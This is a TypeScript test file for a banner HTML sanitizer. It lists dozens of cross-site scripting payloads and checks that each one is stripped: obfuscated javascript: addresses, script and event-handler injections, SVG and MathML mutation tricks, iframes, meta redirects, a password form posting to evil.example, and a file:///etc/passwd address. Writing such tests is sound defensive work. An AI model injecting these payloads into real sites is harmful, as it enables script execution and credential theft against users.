import { describe, expect, test } from 'vitest';
import { sanitizeBanner } from './operator-html.ts';

/** Spellings of script in an address, after the tricks that browsers undo. */
const HOSTILE_ADDRESSES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java&#9;script:alert(1)',
  'java&#x0A;script:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)',
  'javascript&colon;alert(1)',
  '\u0001javascript:alert(1)',
  '\u00a0javascript:alert(1)',
  'vbscript:msgbox(1)',
  'livescript:x',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml;base64,PHN2Zz4=',
  'DATA:text/html;base64,PHNjcmlwdD4=',
  'blob:https://shop.example/1',
  'file:///etc/passwd',
  'ftp://evil.example/',
  'mailto:a@b.example?subject=x',
  'view-source:https://evil.example',
  '//evil.example/',
  '/\\evil.example/',
  '\\\\evil.example/',
  '/\t/evil.example/',
  '///evil.example/',
  'https:evil.example',
  'https:///',
  'http://',
  'x:y',
];

const HOSTILE_HTML = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script>',
  '<<script>alert(1)//<</script>',
  '<p onclick="alert(1)">x</p>',
  '<p ONMOUSEOVER=alert(1)>x</p>',
  '<a href="/app/" onfocus=alert(1) autofocus>x</a>',
  '<img src="/x.png" alt="x" onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<img src=x onerror="alert(1)" alt=x>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><use href="data:image/svg+xml,x#y"/></svg>',
  '<math><mtext></mtext><mglyph><style><img src onerror=alert(1)></style></mglyph></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example"></object>',
  '<embed src="https://evil.example">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input type="image" src="x" onerror="alert(1)">',
  '<style>body{background:url(https://evil.example)}</style>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p>',
  '<div style="width:expression(alert(1))">x</div>',
  '<p class="modal" id="root">x</p>',
  '<video src="https://evil.example" autoplay onplay=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<p title="&quot;><script>alert(1)</script>">x</p>',
  '<a href="/app/" target="_self" style="x" download>x</a>',
  '<a href="/app/"><img src="https://pics.example/x.png" alt="&quot; onerror=alert(1) x=&quot;"></a>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<isindex action="javascript:alert(1)" type="image">',
  '<custom-element onclick=alert(1)>x</custom-element>',
];

const ALLOWED_TAG =
  /^<\/?(p|br|ul|ol|li|strong|b|em|i|u|h3|h4|blockquote|a|img)( (href|src|alt|rel|target)="[^"<>]*")*( \/)?>$/;

/** Reads the result as a browser would: nothing but allowed tags and attributes, and addresses that lead where they say. */
function expectHarmless(html: string): void {
  for (const [tag] of html.matchAll(/<[^>]*>?/g)) expect(tag).toMatch(ALLOWED_TAG);
  for (const [, address = ''] of html.matchAll(/ (?:href|src)="([^"]*)"/g))
    expect(address).toMatch(/^(https?:\/\/[a-z]|\/(?![/\\]))/i);
}

describe('C-27 what a banner may not hold', () => {
  test.for(HOSTILE_HTML)('%s', (html) => {
    const clean = sanitizeBanner(html);
    expectHarmless(clean);
    expect(sanitizeBanner(clean)).toBe(clean);
  });

  test.for(HOSTILE_ADDRESSES)('an address like %j', (address) => {
    const attribute = address.replaceAll('"', '&quot;');
    const clean = sanitizeBanner(`<p><a href="${attribute}">x</a><img src="${attribute}" alt="x"></p>`);

    expect(clean).toBe('<p><a>x</a></p>');
  });
});

test('C-27 C-28 paragraphs, links of this site and outside, and described pictures stay', () => {
  const html =
    '<h3>News</h3><p>A <strong>fair</strong> offer: <a href="/app/tasks?x=1#y">here</a>, <a href="https://ads.example/x">there</a></p><ul><li>one</li></ul><img src="/app/assets/x.png" alt="A chart" /><img src="https://pics.example/x.png" alt="A map" />';

  expect(sanitizeBanner(html)).toBe(
    html.replace(
      'href="https://ads.example/x"',
      'href="https://ads.example/x" rel="noopener noreferrer nofollow" target="_blank"',
    ),
  );
});

test('a picture without a description is left out', () => {
  for (const picture of ['<img src="/x.png">', '<img src="/x.png" alt="">', '<img alt="x">'])
    expect(sanitizeBanner(`<p>a${picture}b</p>`)).toBe('<p>ab</p>');
});
